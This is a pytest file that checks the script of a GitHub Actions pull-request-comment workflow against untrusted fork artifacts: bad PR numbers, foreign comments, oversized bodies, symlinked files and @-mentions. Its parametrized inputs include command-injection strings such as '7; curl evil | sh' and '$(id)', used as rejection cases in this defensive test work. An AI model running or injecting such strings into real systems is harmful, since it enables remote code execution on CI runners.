"""The script of pull-request-comment.yml, run by node as actions/github-script runs it (an async
function of `github`, `context`, `core` and `require`), on artifacts in temporary folders.

`github` here answers as GitHub's REST API does for the four calls the script makes, and records
them; what is tested is the script's handling of the artifact, which is untrusted: a fork
controls all of it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from compiler.prdiff.markdown import MARKER
from tests.pr.tools import missing

ROOT = Path(__file__).resolve().parents[2]
HEAD = "a" * 40

HARNESS = r"""
const fs = require('fs');
const state = JSON.parse(process.env.STATE);
const calls = [];
const record = (name, value) => { calls.push([name, value]); return { data: {} }; };
const github = {
  rest: {
    pulls: {
      get: async (p) => {
        calls.push(['pulls.get', p]);
        return { data: { head: { sha: state.prHead } } };
      },
    },
    issues: {
      listComments: 'issues.listComments',
      updateComment: async (p) => record('issues.updateComment', p),
      createComment: async (p) => record('issues.createComment', p),
    },
  },
  paginate: async (method, p) => { calls.push([method, p]); return state.comments; },
};
const context = {
  repo: { owner: 'o', repo: 'r' },
  payload: { workflow_run: { head_sha: state.runHead } },
};
const core = { notice: (m) => calls.push(['notice', m]) };
const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;
const script = fs.readFileSync(process.env.SCRIPT, 'utf8');
new AsyncFunction('require', 'github', 'context', 'core', script)(require, github, context, core)
  .then(() => console.log(JSON.stringify({ ok: true, calls })),
        (e) => console.log(JSON.stringify({ ok: false, error: e.message, calls })));
"""


@pytest.fixture
def script(tmp_path: Path) -> Path:
    workflow = yaml.safe_load(
        (ROOT / ".github" / "workflows" / "pull-request-comment.yml").read_text(encoding="utf-8")
    )
    step = next(
        s for s in workflow["jobs"]["comment"]["steps"] if "github-script" in s.get("uses", "")
    )
    path = tmp_path / "script.js"
    path.write_text(step["with"]["script"], encoding="utf-8")
    return path


def _artifact(tmp_path: Path, number: str = "7", body: str = f"{MARKER}\n## plan\n") -> Path:
    folder = tmp_path / "pr"
    folder.mkdir(exist_ok=True)
    (folder / "number").write_text(number, encoding="utf-8")
    (folder / "diff.md").write_text(body, encoding="utf-8")
    return folder


def _run(
    script: Path,
    artifact: Path,
    *,
    comments: list[dict[str, Any]] | None = None,
    pr_head: str = HEAD,
) -> dict[str, Any]:
    node = shutil.which("node")
    if node is None:
        missing("node", "actions/github-script runs the script with node")
    assert node is not None
    state = {"prHead": pr_head, "runHead": HEAD, "comments": comments or []}
    harness = script.parent / "harness.js"
    harness.write_text(HARNESS, encoding="utf-8")
    env = {
        **os.environ,
        "STATE": json.dumps(state),
        "SCRIPT": str(script),
        "ARTIFACT": str(artifact),
    }
    proc = subprocess.run(
        [node, str(harness)], env=env, capture_output=True, text=True, check=True, timeout=60
    )
    result: dict[str, Any] = json.loads(proc.stdout)
    return result


def _names(result: dict[str, Any]) -> list[str]:
    return [name for name, _ in result["calls"]]


def test_it_creates_the_comment_once(script: Path, tmp_path: Path) -> None:
    result = _run(script, _artifact(tmp_path))
    assert result["ok"], result
    assert _names(result) == ["pulls.get", "issues.listComments", "issues.createComment"]
    created = result["calls"][-1][1]
    assert created == {"owner": "o", "repo": "r", "issue_number": 7, "body": f"{MARKER}\n## plan\n"}


def test_it_updates_its_own_comment_and_no_one_elses(script: Path, tmp_path: Path) -> None:
    comments = [
        {"id": 1, "user": {"login": "mallory"}, "body": f"{MARKER}\nfake"},
        {"id": 2, "user": {"login": "github-actions[bot]"}, "body": "another bot comment"},
        {"id": 3, "user": {"login": "github-actions[bot]"}, "body": f"{MARKER}\nold plan"},
    ]
    result = _run(script, _artifact(tmp_path), comments=comments)
    assert result["ok"], result
    assert result["calls"][-1] == [
        "issues.updateComment",
        {"owner": "o", "repo": "r", "comment_id": 3, "body": f"{MARKER}\n## plan\n"},
    ]


@pytest.mark.parametrize(
    "number", ["7; curl evil | sh", "$(id)", "0", "-1", "07", "1e3", "99999999999", ""]
)
def test_a_number_that_is_not_a_pull_request_number_posts_nothing(
    script: Path, tmp_path: Path, number: str
) -> None:
    result = _run(script, _artifact(tmp_path, number=number))
    assert not result["ok"] and "not a pull request number" in result["error"]
    assert result["calls"] == []


def test_a_number_of_another_pull_request_posts_nothing(script: Path, tmp_path: Path) -> None:
    result = _run(script, _artifact(tmp_path), pr_head="b" * 40)
    assert result["ok"]
    assert _names(result) == ["pulls.get", "notice"]


def test_an_oversized_or_foreign_body_posts_nothing(script: Path, tmp_path: Path) -> None:
    for body, error in (
        (MARKER + "x" * 70_000, "over 65536"),
        ("## no marker\n" + MARKER, "does not start with the marker"),
    ):
        result = _run(script, _artifact(tmp_path, body=body))
        assert not result["ok"] and error in result["error"]
        assert "issues.createComment" not in _names(result)


def test_a_linked_file_is_refused(script: Path, tmp_path: Path) -> None:
    folder = _artifact(tmp_path)
    secret = tmp_path / "secret"
    secret.write_text(f"{MARKER}\nthe runner's secrets", encoding="utf-8")
    (folder / "diff.md").unlink()
    (folder / "diff.md").symlink_to(secret)
    result = _run(script, folder)
    assert not result["ok"] and "not a regular file" in result["error"]


def test_mentions_are_neutralized(script: Path, tmp_path: Path) -> None:
    result = _run(script, _artifact(tmp_path, body=f"{MARKER}\ncc @org/everyone"))
    body = result["calls"][-1][1]["body"]
    assert "@" not in body and "&#64;org/everyone" in body
